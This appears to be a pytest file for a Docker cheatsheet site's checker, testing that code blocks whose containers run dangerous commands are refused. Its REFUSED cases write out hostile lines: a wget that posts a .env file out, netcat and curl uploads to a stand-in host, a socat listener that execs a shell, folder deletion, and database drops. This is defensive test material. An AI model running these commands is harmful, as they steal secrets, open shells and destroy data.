"""What a copied block's containers run (cheatsheet/container_commands.py, data/cli-rules.yaml
`container_programs`): the words after the image of `docker container run/create` and `docker
service create`, after the container of `exec` and the service of `docker compose run/exec`, are
a command of the block. The seventeenth attacker's class (H6, H10, H12, H13, H14, H18, H19: a
container given the current folder, standard input or the reader's database, running what the
page chose) in forms varied from his, each refused on its line; the pages' own still build, and
each entry of the list is one a page uses."""

from __future__ import annotations

import copy
import re
from functools import cache

import pytest
from conftest import ROOT

from cheatsheet import catalog, container_commands
from cheatsheet.site import build_site


def _front(title: str) -> str:
    return (
        f"---\ntitle: {title}\ndescription: A page of the tests about what a container of a block runs.\n"
        "section: operate\norder: 99\nsheet:\n  docker container ls: list\n---\n\n"
        f"# {title}\n\nText with `docker container ls`.\n\n## Section\n\n"
    )


FIRST = _front("x").count("\n") + 2  # the line of the block's first line


@cache
def _docs() -> dict[str, str]:
    pages = (ROOT / "docs").rglob("*.md")
    return {p.relative_to(ROOT / "docs").as_posix(): p.read_text(encoding="utf-8") for p in pages}


# Each: the block, the line of it that is refused, a part of the message. The current folder is
# given as the pages give it (`"$(pwd)":/work`, `"$PWD":/work`), so the container's command is
# what is refused, not the mount.
REFUSED = {
    "the folder's settings sent by the container (H12)": (
        'docker container run --rm -v "$(pwd)":/work alpine:3.22 wget -qO- --post-data=@/work/.env.local '
        "http://host.docker.internal:8000/",
        0,
        "`wget --post-data",
    ),
    "a container fetching an address no page uses": (
        "docker container run --rm alpine:3.22 wget -qO- https://telemetry.example.org/c",
        0,
        "not one of the names data/cli-rules.yaml lists for `wget`",
    ),
    "standard input posted away by the container (H14)": (
        "docker container run --rm -i alpine:3.22 sh -c 'busybox nc telemetry.example.org 443' < notes.txt",
        0,
        "runs `busybox` in the container",
    ),
    "a program no page runs in a container": (
        "docker container create --name probe alpine:3.22 socat TCP-LISTEN:4444 EXEC:sh",
        0,
        "runs `socat` in the container",
    ),
    "the current folder emptied by the container (H13)": (
        'docker container run --rm -v "$(pwd)":/work alpine:3.22 find /work -delete',
        0,
        "runs `find` in the container",
    ),
    "a listed program with an option no page gives it": (
        "docker container exec <container> rm -r /etc/motd",
        0,
        "`rm -r`: an option",
    ),
    "a link out of the folder (H10)": (
        'docker container run --rm -v "$(pwd)":/work -w /work alpine:3.22 touch ../../.zshrc',
        0,
        "reaches out of it",
    ),
    "a Compose file written into the mounted folder by a redirect (H6)": (
        "docker container run --rm -i -v \"$(pwd)\":/work -w /work alpine:3.22 sh -c 'cat > docker-compose.yml'",
        0,
        "the current folder's `./docker-compose.yml`",
    ),
    "a container's copy into the mounted folder": (
        'docker container run --rm -i -v "$(pwd)":/work alpine:3.22 cp /dev/stdin /work/Makefile',
        0,
        "`cp` writes into `/work/Makefile`",
    ),
    "an archive unpacked into the mounted folder": (
        'docker container run --rm -v "$(pwd)":/backup -w /backup alpine:3.22 tar xzf /backup/pgdata.tar.gz',
        0,
        "`tar` writes into `.`",
    ),
    "a statement run in the reader's database (H18)": (
        "docker container exec db psql -U app -d app -c 'TRUNCATE orders'",
        0,
        "`psql -c`: an option",
    ),
    "a Compose service's database dropped": (
        "docker compose exec db dropdb -U app app",
        0,
        "runs `dropdb` in the container",
    ),
    "a one-off Compose container's upload": (
        "docker compose run --rm web curl -fsSL --upload-file /etc/hostname https://telemetry.example.org/",
        0,
        "`curl --upload-file`",
    ),
    "a shell entrypoint given a string": (
        "docker container run --rm --entrypoint sh alpine:3.22 -c 'apk add openssh && sshd'",
        0,
        "runs `apk` in the container",
    ),
    "a service running a listener": (
        "docker service create --name probe alpine:3.22 httpd -f",
        0,
        "runs `httpd` in the container",
    ),
    "a shell fed its commands by a pipe": (
        'printf "rm -f /work/*\\n" | docker container run --rm -i -v "$(pwd)":/work alpine:3.22 sh',
        0,
        "reads its commands from standard input",
    ),
    "a shell of a container the page names fed its commands": (
        "printf 'DROP TABLE users;' | docker container exec -i db sh",
        0,
        "reads its commands from standard input",
    ),
    "a statement piped into the database inside the container": (
        "docker compose exec db sh -c 'echo \"DELETE FROM users\" | psql -U app -d app'",
        0,
        "a pipe or `<` inside the container",
    ),
    "a program run by env's words": (
        "docker container run --rm alpine:3.22 env busybox wget https://telemetry.example.org/",
        0,
        "`env` with 3 words",
    ),
    "a wrapper in a shell string": (
        "docker container run --rm alpine:3.22 sh -c 'xargs -n1 wget -qO-'",
        0,
        "runs `xargs` in the container",
    ),
    "docker in a container named as Docker's image": (
        "docker container exec docker docker container run --rm -v /:/host alpine:3.22 sh",
        0,
        "runs `docker` in the container",
    ),
    "statements piped into the database's shell": (
        "printf 'DELETE FROM orders;' | docker compose exec -T db psql -U app -d app",
        0,
        "input into `psql` in a container",
    ),
    "statements in a here-document for the database": (
        "docker container exec -i db psql -U postgres <<'SQL'\nDROP TABLE orders;\nSQL",
        0,
        "input into `psql` in a container",
    ),
    "statements the block writes, fed to the database from the file": (
        "cat > restore.sql <<'EOF'\nDROP TABLE orders;\nEOF\n"
        "docker compose exec -T db psql -U app -d app < restore.sql",
        3,
        "that the block does not write",
    ),
    "commands piped into the reader's own container's shell": (
        "printf 'rm -rf /srv/*' | docker container exec -i <container> sh",
        0,
        "input into `sh` in a container",
    ),
    "a script from the mounted folder": (
        'docker container run --rm -v "$(pwd)":/work alpine:3.22 ash /work/setup.sh',
        0,
        "runs a script or a string no check reads",
    ),
}

ALLOWED = {
    "a file made in the mounted folder, as tips.md makes it": (
        'docker container run --rm -v "$(pwd)":/work -w /work alpine:3.22 touch created-by-me'
    ),
    "an interactive shell": "docker container run --rm -it alpine:3.22 sh",
    "a loop in a shell string": "docker container run -d alpine:3.22 sh -c 'while true; do date; sleep 5; done'",
    "the pages' address fetched to standard output": (
        "docker container run --rm alpine:3.22 wget -qO- http://host.docker.internal:8000/"
    ),
    "the pages' database's shell": "docker compose exec db psql -U app -d app",
}


@cache
def _built(cases: tuple[str, ...]) -> dict[str, list[str]]:
    """Each block on a page of its own, built once with the site's pages."""
    sources = dict(_docs())
    for k, block in enumerate(cases):
        sources[f"zz-container-{k}.md"] = f"{_front(f'Zz container {k}')}```bash\n{block}\n```\n"
    site = build_site(sources, catalog.load())
    found: dict[str, list[str]] = {block: [] for block in cases}
    for k, block in enumerate(cases):
        found[block] = [str(p) for p in site.problems if p.path == f"docs/zz-container-{k}.md"]
    return found


_CASES = tuple(block for block, _, _ in REFUSED.values()) + tuple(ALLOWED.values())


@pytest.mark.parametrize("name", list(REFUSED))
def test_a_container_s_command_is_refused_on_its_line(name):
    block, offset, what = REFUSED[name]
    found = _built(_CASES)[block]
    expected = f"docs/zz-container-{_CASES.index(block)}.md:{FIRST + offset}: "
    assert any(p.startswith(expected) and what in p and " — " in p for p in found), (expected, what, found)


@pytest.mark.parametrize("name", list(ALLOWED))
def test_what_the_pages_run_in_containers_builds(name):
    assert _built(_CASES)[ALLOWED[name]] == []


def _uses(cat: catalog.Catalog) -> dict[str, list[list[str]]]:
    """The words the pages' containers give each program, recorded while the site builds."""
    used: dict[str, list[list[str]]] = {}
    original = container_commands._program_problems

    def record(words, inv, catalog_, host):
        name = inv.arguments[0] if words[0].startswith("-") else words[0]
        used.setdefault(name, []).append(list(words))
        return original(words, inv, catalog_, host)

    container_commands._program_problems = record
    try:
        site = build_site(dict(_docs()), cat)
    finally:
        container_commands._program_problems = original
    assert [str(p) for p in site.problems] == []
    return used


def test_every_container_program_and_what_it_lists_is_used_by_a_page():
    """`container_programs` holds what the pages' containers run, no more: each program, and
    each option, verb and name listed for it, is given by a page."""
    cat = catalog.load()
    used = _uses(cat)
    unused: dict[str, list[str]] = {}
    for name, spec in cat.container_programs.items():
        words = [w for run in used.get(name, []) for w in run]
        if not words:
            unused[name] = ["(the program)"]
            continue
        for key in ("options", "verbs", "names"):
            missing = [item for item in spec.get(key) or [] if item not in words]
            if missing:
                unused.setdefault(name, []).extend(missing)
    assert unused == {}


def _command_line(page: str, program: str) -> int:
    """The line where the page's first command running `program` starts (its continued lines
    belong to it)."""
    lines = (ROOT / page).read_text(encoding="utf-8").splitlines()
    at = next(k for k, text in enumerate(lines) if re.search(rf"(?<![\w-]){program} ", text))
    while at > 0 and lines[at - 1].rstrip().endswith("\\"):
        at -= 1
    return at + 1


@pytest.mark.parametrize(
    ("program", "page"),
    [("wget", "docs/containers.md"), ("tar", "docs/volumes.md"), ("psql", "docs/compose.md")],
)
def test_a_page_fails_on_its_line_when_its_container_program_is_taken_out(program, page):
    line = _command_line(page, program)
    cat = copy.copy(catalog.load())
    cat.container_programs = {k: v for k, v in cat.container_programs.items() if k != program}
    site = build_site(dict(_docs()), cat)
    found = [str(p) for p in site.problems]
    assert any(p.startswith(f"{page}:{line}: ") and f"`{program}`" in p and " — " in p for p in found), found
